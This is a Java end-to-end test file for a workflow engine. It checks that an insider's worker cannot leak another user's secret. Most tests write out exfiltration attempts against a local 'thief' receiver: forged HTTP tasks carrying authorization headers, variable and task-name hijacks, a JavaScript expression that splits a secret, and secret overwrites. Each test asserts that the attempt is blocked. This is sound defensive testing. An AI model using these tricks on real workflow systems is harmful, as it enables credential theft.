package io.tacet.e2e;

import static io.tacet.e2e.Definitions.dynamicFork;
import static io.tacet.e2e.Definitions.fresh;
import static io.tacet.e2e.Definitions.post;
import static io.tacet.e2e.Definitions.task;
import static io.tacet.e2e.Definitions.with;
import static io.tacet.e2e.Definitions.workflow;
import static io.tacet.e2e.People.ended;
import static io.tacet.e2e.People.grant;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.tacet.e2e.People.Person;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Ann's secret and her workflow; Ben, an ordinary user, works for it, owns task types that it uses, or writes definitions himself. A secret reaches
 * the tasks to which authors who may use it have sent it, and no other. Each defence stands beside the honest use that is nearest to it.
 */
@ExtendWith(SharedServer.class)
class InsiderFlowTest {
    private final Receiver service = new Receiver(() -> {});
    private final Receiver thief = new Receiver(() -> {});
    private final String secret = fresh("insider");
    private final String value = fresh("canary-insider");
    private final String type = fresh("ben_s_type");
    private Api admin;
    private Person ann;
    private Person ben;

    @BeforeEach
    void people(TacetServer server) {
        admin = server.admin();
        People people = new People(server);
        ann = people.user("ann", "USER");
        ben = people.user("ben", "USER");
        admin.ok("PUT", "/api/secrets/" + secret, value);
        grant(admin, "USER/" + ann.id(), "SECRET_NAME/" + secret, "READ", "UPDATE", "EXECUTE");
    }

    @AfterEach
    void close() {
        service.close();
        thief.close();
    }

    private String reference() {
        return Planted.reference(secret);
    }

    private Map<String, Object> call(String name) {
        return Definitions.http(
                name,
                Map.of(
                        "uri",
                        service.url() + "/" + name,
                        "method",
                        "POST",
                        "headers",
                        Map.of("Authorization", reference()),
                        "body",
                        Map.of("plain", "parcel")));
    }

    private void benOwnsHisType(Map<String, ?> more) {
        ben.api().registerTask(type, with(Map.of("retryCount", 0), more));
        grant(ben.api(), "USER/" + ann.id(), "TASK_DEF/" + type, "EXECUTE");
    }

    private Map<String, Object> worker(String reference, Map<String, ?> input) {
        return with(task(reference, "SIMPLE", input), Map.of("name", type));
    }

    /** Ann's workflow that runs the tasks that Ben's worker answers with. */
    private Map<String, Object> feeding(String name, List<Map<String, Object>> after) {
        List<Map<String, Object>> tasks = new ArrayList<>(List.of(
                worker("feed", Map.of()),
                dynamicFork("${feed.output.tasks}", "${feed.output.inputs}"),
                task("join", "JOIN", Map.of())));
        tasks.addAll(after);
        return with(workflow(fresh(name)), Map.of("tasks", tasks));
    }

    private String start(Map<String, Object> definition, Map<String, ?> input) {
        return ann.api().run(definition, input);
    }

    /** As Ben's worker: takes one task and answers. @return what he was handed */
    private JsonNode benAnswers(Map<String, ?> output) {
        JsonNode polled = Bait.patiently()
                .until(
                        () -> ben.api().json("/api/tasks/poll/batch/" + type + "?workerid=ben&count=1&timeout=100"),
                        tasks -> !tasks.isEmpty())
                .get(0);
        ben.api().ok("POST", "/api/tasks", with(Stage.of(polled), Map.of("outputData", output)));
        return polled;
    }

    private void nothingIsStolen() {
        assertThat(thief.requests())
                .noneMatch(request -> (request.target() + request.headers() + request.body()).contains(value));
    }

    private List<String> arrivedAtTheService() {
        return service.requests().stream()
                .filter(request -> request.headers().toString().contains(value))
                .map(Receiver.Request::target)
                .toList();
    }

    @Test
    void tasksThatAWorkerMakesUpReadDataAndNoSecrets() {
        benOwnsHisType(Map.of());
        String execution = start(
                workflow(
                        fresh("forking"),
                        call("first"),
                        worker("feed", Map.of()),
                        dynamicFork("${feed.output.tasks}", "${feed.output.inputs}"),
                        task("join", "JOIN", Map.of()),
                        call("last")),
                Map.of("city", "Lisbon"));

        benAnswers(Map.of(
                "tasks",
                List.of(
                        Map.of("name", "out", "taskReferenceName", "out", "type", "HTTP"),
                        Map.of("name", "keep", "taskReferenceName", "keep", "type", "SET_VARIABLE")),
                "inputs",
                Map.of(
                        "out",
                        Map.of(
                                "http_request",
                                Map.of(
                                        "uri",
                                        thief.url() + "/out",
                                        "method",
                                        "POST",
                                        "headers",
                                        Map.of("X-Key", "${first.input.http_request.headers.Authorization}"),
                                        "body",
                                        Map.of(
                                                "all",
                                                "${first.input}",
                                                "city",
                                                "${workflow.input.city}",
                                                "lure",
                                                reference()))),
                        "keep",
                        Map.of("kept", "${first.input}"))));

        ended(ann.api(), execution, "COMPLETED");
        nothingIsStolen();
        JsonNode sent = Api.read(thief.requests().getFirst().body());
        assertThat(sent.get("city").asText()).as("plain data flows on").isEqualTo("Lisbon");
        assertThat(sent.at("/all/http_request/body/plain").asText()).isEqualTo("parcel");
        assertThat(arrivedAtTheService()).containsExactly("/first", "/last");
    }

    @Test
    void whatAMadeUpTaskKeptDoesNotOpenForALaterTaskOfTheAuthor() {
        benOwnsHisType(Map.of());
        String execution = start(
                workflow(
                        fresh("laundering"),
                        call("first"),
                        worker("feed", Map.of()),
                        dynamicFork("${feed.output.tasks}", "${feed.output.inputs}"),
                        task("join", "JOIN", Map.of()),
                        // A place where others may look, which the author fills with what the worker said.
                        post("note", thief.url() + "/note", Map.of("said", "${workflow.variables.kept}"))),
                Map.of());

        benAnswers(Map.of(
                "tasks",
                List.of(Map.of("name", "keep", "taskReferenceName", "keep", "type", "SET_VARIABLE")),
                "inputs",
                Map.of("keep", Map.of("kept", "${first.input}"))));

        ended(ann.api(), execution, "COMPLETED");
        assertThat(thief.requests()).hasSize(1);
        nothingIsStolen();
    }

    /** Ann's variable says where the secret goes. */
    @Test
    void madeUpTasksDoNotSetTheVariablesOfTheDefinition() {
        benOwnsHisType(Map.of());
        Map<String, Object> definition = workflow(
                fresh("variables"),
                task("set", "SET_VARIABLE", Map.of("url", service.url())),
                worker("feed", Map.of()),
                dynamicFork("${feed.output.tasks}", "${feed.output.inputs}"),
                task("join", "JOIN", Map.of()),
                with(call("last"), Map.of("taskReferenceName", "plain")),
                Definitions.http(
                        "last",
                        Map.of(
                                "uri",
                                "${workflow.variables.url}/last",
                                "method",
                                "POST",
                                "headers",
                                Map.of("Authorization", reference()))));
        List<Map<String, Object>> made =
                List.of(Map.of("name", "set_too", "taskReferenceName", "set_too", "type", "SET_VARIABLE"));

        String stolen = start(definition, Map.of());
        benAnswers(Map.of("tasks", made, "inputs", Map.of("set_too", Map.of("url", thief.url()))));
        assertThat(ended(ann.api(), stolen, "FAILED")
                        .get("reasonForIncompletion")
                        .asText())
                .contains("variable url");
        assertThat(thief.requests()).isEmpty();

        String honest = ann.api().ok("POST", "/api/workflow/" + definition.get("name"), Map.of());
        benAnswers(Map.of("tasks", made, "inputs", Map.of("set_too", Map.of("weight", 850))));
        ended(ann.api(), honest, "COMPLETED");
        assertThat(arrivedAtTheService()).contains("/last");
    }

    /** With the number of an iteration too, which loops cut off at the first "__". */
    @ParameterizedTest
    @ValueSource(strings = {"last", "last__1", "last__x", "last__", "last__2x__3"})
    void madeUpTasksDoNotTakeTheNamesOfTasksInTheDefinition(String reference) {
        benOwnsHisType(Map.of());
        String execution = start(feeding("shadowing", List.of(call("last"))), Map.of());

        benAnswers(Map.of(
                "tasks",
                List.of(Map.of("name", "last", "taskReferenceName", reference, "type", "HTTP")),
                "inputs",
                Map.of(reference, Map.of("http_request", Map.of("uri", thief.url(), "method", "GET")))));

        assertThat(ended(ann.api(), execution, "FAILED")
                        .get("reasonForIncompletion")
                        .asText())
                .contains("reference names of their own");
        assertThat(thief.requests()).isEmpty();
    }

    /** Who receives its events and what comes after it trust Ann's workflow, not Ben's answer. */
    @ParameterizedTest
    @ValueSource(strings = {"TERMINATE", "EVENT"})
    void madeUpTasksDoNotActForTheWorkflow(String acting) {
        benOwnsHisType(Map.of());
        Map<String, Object> made =
                Map.of("name", "act", "taskReferenceName", "act", "type", acting, "sink", "conductor:paid");
        Map<String, Object> input = Map.of(
                "terminationStatus", "COMPLETED", "workflowOutput", Map.of("paid", true), "sink", "conductor:paid");
        String execution = start(feeding("acting", List.of(task("approve", "HUMAN", Map.of()))), Map.of());

        benAnswers(Map.of("tasks", List.of(made), "inputs", Map.of("act", input)));

        assertThat(reason(ended(ann.api(), execution, "FAILED")))
                .contains(acting, "does not stand in the workflow definition");

        String honest = start(
                workflow(
                        fresh("listed"),
                        dynamicFork(List.of(made), Map.of("act", input)),
                        task("join", "JOIN", Map.of())),
                Map.of());
        assertThat(ended(ann.api(), honest, "COMPLETED").at("/tasks/1/status").asText())
                .isEqualTo("COMPLETED");
    }

    @Test
    void madeUpLoopsInOneAnotherCostNothing() {
        benOwnsHisType(Map.of());
        Map<String, Object> made = Map.of("name", "a", "taskReferenceName", "a", "type", "WAIT");
        for (int i = 0; i < 60; i++) {
            made = Map.of(
                    "name", "loop",
                    "taskReferenceName", "loop_" + i,
                    "type", "DO_WHILE",
                    "loopCondition", "false",
                    "loopOver", List.of(made));
        }
        String execution = start(feeding("looping", List.of()), Map.of());

        benAnswers(Map.of("tasks", List.of(made), "inputs", Map.of()));

        assertThat(reason(ended(ann.api(), execution, "FAILED"))).contains("DO_WHILE", "sub-workflow");
    }

    @Test
    void definitionThatDataMakesUpDoesNotTakeTheNameOfAWorkflow() {
        benOwnsHisType(Map.of());
        String name = fresh("anns_payments");
        ann.api().register(workflow(name, task("t", "HUMAN", Map.of())));
        Map<String, Object> feeding = feeding("naming", List.of());

        String execution = start(feeding, Map.of());
        benAnswers(Map.of("tasks", List.of(within(name)), "inputs", Map.of()));
        assertThat(ended(ann.api(), execution, "FAILED").toString()).contains("a definition that came as data");

        String honest = ann.api().ok("POST", "/api/workflow/" + feeding.get("name"), Map.of());
        benAnswers(Map.of("tasks", List.of(within(fresh("own_name"))), "inputs", Map.of()));
        ended(ann.api(), honest, "COMPLETED");
    }

    private static Map<String, Object> within(String name) {
        return Map.of(
                "name",
                "sub",
                "taskReferenceName",
                "sub",
                "type",
                "SUB_WORKFLOW",
                "subWorkflowParam",
                Map.of(
                        "name",
                        name,
                        "version",
                        1,
                        "workflowDefinition",
                        workflow(name, task("set", "SET_VARIABLE", Map.of("a", 1)))));
    }

    @Test
    void templateOfAnotherAuthorReadsDataAndNoSecrets() {
        benOwnsHisType(Map.of("inputTemplate", Map.of("all", "${first.input}", "city", "${workflow.input.city}")));
        String execution = start(
                workflow(fresh("sharing"), call("first"), worker("work", Map.of("given", reference()))),
                Map.of("city", "Lisbon"));

        JsonNode input = benAnswers(Map.of()).get("inputData");

        assertThat(input.get("all").toString()).doesNotContain(value).contains("parcel");
        assertThat(input.get("city").asText()).isEqualTo("Lisbon");
        assertThat(input.get("given").asText()).as("what Ann sends him").isEqualTo(value);
        ended(ann.api(), execution, "COMPLETED");
    }

    @Test
    void taskThatDataChoosesGetsNoSecretsUnlessTheAuthorLeavesTheChoice() {
        benOwnsHisType(Map.of());
        Map<String, Object> input = Map.of("which", "${workflow.input.which}", "key", reference(), "city", "Lisbon");
        Map<String, Object> chosen = with(task("dyn", "DYNAMIC", input), Map.of("dynamicTaskNameParam", "which"));
        Map<String, Object> listed = with(
                task("dyn", "DYNAMIC", with(input, Map.of("allowedTasks", List.of(type, "another")))),
                Map.of("dynamicTaskNameParam", "which"));

        String closed = start(workflow(fresh("chosen"), chosen), Map.of("which", type));
        JsonNode handed = benAnswers(Map.of()).get("inputData");
        assertThat(handed.toString()).doesNotContain(value);
        assertThat(handed.get("city").asText()).isEqualTo("Lisbon");
        ended(ann.api(), closed, "COMPLETED");

        String open = start(workflow(fresh("listed"), listed), Map.of("which", type));
        assertThat(benAnswers(Map.of()).at("/inputData/key").asText()).isEqualTo(value);
        ended(ann.api(), open, "COMPLETED");
    }

    /** The list of tasks is data; Ann says what each is given, and of which types they may be. */
    @ParameterizedTest
    @CsvSource({"d1, HTTP", "HTTP, HTTP", "HTTP, SIMPLE"})
    void forkedTaskOfATypeThatTheAuthorAllowsGetsSecretsByHerInputsOnly(String name, String taskType) {
        Map<String, Object> listed = Map.of("name", name, "taskReferenceName", "d1", "type", taskType);
        Map<String, Object> honest =
                Map.of("http_request", Map.of("uri", service.url() + "/honest", "method", "POST", "body", reference()));
        ended(ann.api(), start(allowing("HTTP", honest), Map.of("tasks", List.of(listed))), "COMPLETED");
        assertThat(service.requests())
                .singleElement()
                .satisfies(request -> assertThat(request.body()).isEqualTo(value));

        Map<String, Object> address = Map.of("uri", thief.url(), "method", "POST");
        Map<String, Object> turned =
                with(listed, Map.of("inputParameters", Map.of("uri", thief.url(), "http_request", address)));
        Map<String, Object> half = Map.of("method", "POST", "body", reference());
        start(allowing("HTTP", half), Map.of("tasks", List.of(with(turned, Map.of("inputParameters", address)))));
        start(allowing("HTTP", half), Map.of("tasks", List.of(turned)));
        start(
                allowing("KAFKA_PUBLISH", half),
                Map.of("tasks", List.of(with(turned, Map.of("inputParameters", address)))));
        Bait.patiently().until(() -> thief.requests().size() >= 3);
        nothingIsStolen();
    }

    private static Map<String, Object> allowing(String type, Map<String, Object> given) {
        return workflow(fresh("allowing"), forkAllowing(type, given), task("join", "JOIN", Map.of()));
    }

    private static Map<String, Object> forkAllowing(String type, Map<String, Object> given) {
        return with(
                dynamicFork("${workflow.input.tasks}", Map.of("d1", given)),
                Map.of(
                        "inputParameters",
                        Map.of(
                                "tasks",
                                "${workflow.input.tasks}",
                                "inputs",
                                Map.of("d1", given),
                                "allowedTasks",
                                List.of(type))));
    }

    /** The engine adds the number of the iteration to the names of forked tasks after it has listed them. */
    @Test
    void forkedTasksOfALoopGetSecretsByTheirAuthorsInputsOnly() {
        Map<String, Object> listed = Map.of("name", "d1", "taskReferenceName", "d1", "type", "HTTP");
        Map<String, Object> call = Map.of("uri", service.url() + "/honest", "method", "POST", "body", reference());
        ended(ann.api(), start(looping(forkAllowing("HTTP", call)), Map.of("tasks", List.of(listed))), "COMPLETED");
        assertThat(service.requests()).extracting(Receiver.Request::body).containsExactly(value, value);

        Map<String, Object> half = Map.of("method", "POST", "body", reference());
        Map<String, Object> turned = with(listed, Map.of("inputParameters", Map.of("uri", thief.url())));
        start(looping(forkAllowing("HTTP", half)), Map.of("tasks", List.of(turned)));
        Bait.patiently().until(() -> !thief.requests().isEmpty());
        nothingIsStolen();
    }

    private static Map<String, Object> looping(Map<String, Object> fork) {
        return workflow(
                fresh("looping"),
                with(
                        task("loop", "DO_WHILE", Map.of()),
                        Map.of(
                                "loopCondition",
                                "$.loop.iteration < 2",
                                "loopOver",
                                List.of(fork, task("join", "JOIN", Map.of())))));
    }

    /** Ann lets data choose among types, one of which runs a program; the program is data, too. */
    @Test
    void dynamicTaskRunsNoProgramFromDataOnASecret() {
        Map<String, Object> inputs = Map.of(
                "tt",
                "${workflow.input.t}",
                "k",
                reference(),
                "evaluatorType",
                "graaljs",
                "allowedTasks",
                List.of("INLINE"));
        Map<String, Object> script = Map.of("t", "INLINE", "e", "({_public: {a: $.k.split('').join('-')}})");

        JsonNode stolen = ended(
                ann.api(),
                start(dynamic(with(inputs, Map.of("expression", "${workflow.input.e}"))), script),
                "COMPLETED");
        assertThat(stolen.at("/tasks/0/outputData/result/_public/a").asText()).startsWith("$-{-w-o-r-k");

        JsonNode honest = ended(
                ann.api(),
                start(dynamic(with(inputs, Map.of("expression", "({_public: {n: $.k.length}})"))), script),
                "COMPLETED");
        assertThat(honest.at("/tasks/0/outputData/result/_public/n").asInt()).isEqualTo(value.length());
    }

    private static Map<String, Object> dynamic(Map<String, Object> inputs) {
        return workflow(fresh("choosing"), with(task("d", "DYNAMIC", inputs), Map.of("dynamicTaskNameParam", "tt")));
    }

    @Test
    void madeUpTasksStoreNoSecrets() {
        benOwnsHisType(Map.of());
        Map<String, Object> update = Map.of("_secrets", Map.of("secretKey", secret, "secretValue", "overwritten"));
        String execution = start(feeding("overwriting", List.of()), Map.of());

        benAnswers(Map.of(
                "tasks",
                List.of(Map.of("name", type, "taskReferenceName", "up", "type", "UPDATE_SECRET")),
                "inputs",
                Map.of("up", update)));

        assertThat(reason(ended(ann.api(), execution, "FAILED")))
                .contains("403", "PERMISSION_MISSING", "may not store");
        assertThat(admin.get("/api/secrets/" + secret)).isEqualTo(value);

        String honest = start(
                workflow(fresh("renewing"), with(task("up", "UPDATE_SECRET", update), Map.of("name", type))), Map.of());
        ended(ann.api(), honest, "COMPLETED");
        assertThat(admin.get("/api/secrets/" + secret)).isEqualTo("overwritten");
    }

    @Test
    void authorWithoutThePermissionStoresNoSecrets() {
        benOwnsHisType(Map.of());
        Map<String, Object> update = Map.of("_secrets", Map.of("secretKey", secret, "secretValue", "overwritten"));
        Map<String, Object> evil =
                workflow(fresh("evil"), with(task("up", "UPDATE_SECRET", update), Map.of("name", type)));
        ben.api().register(evil);
        String execution = annRuns(evil);

        assertThat(reason(ended(ann.api(), execution, "FAILED"))).contains("403", "PERMISSION_MISSING", secret);
        assertThat(admin.get("/api/secrets/" + secret)).isEqualTo(value);
    }

    @Test
    void authorIsAskedAgainWhenTheSecretIsUsed() {
        String later = fresh("later");
        Map<String, Object> definition = workflow(
                fresh("waiting"), post("call", service.url() + "/later", Map.of("key", Planted.reference(later))));
        ben.api().register(definition);
        admin.ok("PUT", "/api/secrets/" + later, value);
        grant(admin, "USER/" + ann.id(), "SECRET_NAME/" + later, "EXECUTE");

        String execution = annRuns(definition);

        assertThat(reason(ended(ann.api(), execution, "FAILED"))).contains("last saved by " + ben.id(), later);
        assertThat(service.requests()).isEmpty();

        grant(admin, "USER/" + ben.id(), "SECRET_NAME/" + later, "EXECUTE");
        ended(ann.api(), annRuns(definition), "COMPLETED");
        assertThat(service.requests()).hasSize(1);
    }

    @Test
    void runtimeMetadataGoesToWorkersOfItsOwnTypeOnly() {
        String anns = fresh("ann_s_type");
        ann.api().registerTask(anns, Map.of("retryCount", 0, "runtimeMetadata", List.of(secret)));
        grant(ann.api(), "USER/" + ben.id(), "TASK_DEF/" + anns, "READ", "EXECUTE");
        benOwnsHisType(Map.of());
        Map<String, Object> evil = workflow(fresh("evil"), with(task("work", type, Map.of()), Map.of("name", anns)));
        ben.api().register(evil);

        String execution = annRuns(evil);

        Bait.patiently().until(() -> {
            JsonNode polled = ben.api().json("/api/tasks/poll/batch/" + type + "?workerid=ben&count=1&timeout=100");
            assertThat(polled.toString()).doesNotContain(value);
            return ann.api().execution(execution).get("status").asText().equals("FAILED");
        });
        assertThat(reason(ann.api().execution(execution))).contains("workers of its own type only");

        String honest = start(
                workflow(fresh("honest"), with(task("work", "SIMPLE", Map.of()), Map.of("name", anns))), Map.of());
        JsonNode handed = Bait.patiently()
                .until(
                        () -> ann.api().json("/api/tasks/poll/batch/" + anns + "?workerid=ann&count=1&timeout=100"),
                        tasks -> !tasks.isEmpty())
                .get(0);
        assertThat(handed.at("/runtimeMetadata/" + secret).asText()).isEqualTo(value);
        ann.api().ok("POST", "/api/tasks", Stage.of(handed));
        ended(ann.api(), honest, "COMPLETED");
    }

    @Test
    void whatAWorkerWasHandedIsNoProof() {
        benOwnsHisType(Map.of());
        String first = start(workflow(fresh("handing"), worker("work", Map.of("key", reference()))), Map.of());
        JsonNode handed = benAnswers(Map.of());
        ended(ann.api(), first, "COMPLETED");
        assertThat(handed.at("/inputData/key").asText()).isEqualTo(value);
        assertThat(handed.toString()).doesNotContain("tacet-").doesNotContain("~");

        String execution = start(feeding("replaying", List.of()), Map.of());
        JsonNode replayed = handed.get("workflowTask");
        benAnswers(Map.of(
                "tasks",
                List.of(Map.of("name", type, "taskReferenceName", "again", "type", "SIMPLE")),
                "inputs",
                Map.of("again", Api.JSON.convertValue(replayed.get("inputParameters"), Map.class))));
        assertThat(benAnswers(Map.of()).toString()).doesNotContain(value);
        ended(ann.api(), execution, "COMPLETED");
    }

    /** Ben's definition, which Ann may run. */
    private String annRuns(Map<String, Object> definition) {
        String name = (String) definition.get("name");
        grant(ben.api(), "USER/" + ann.id(), "WORKFLOW_DEF/" + name, "READ", "EXECUTE");
        return ann.api().ok("POST", "/api/workflow/" + name, Map.of());
    }

    private static String reason(JsonNode execution) {
        JsonNode tasks = execution.get("tasks");
        return execution.path("reasonForIncompletion").asText() + tasks.findValuesAsText("reasonForIncompletion");
    }
}
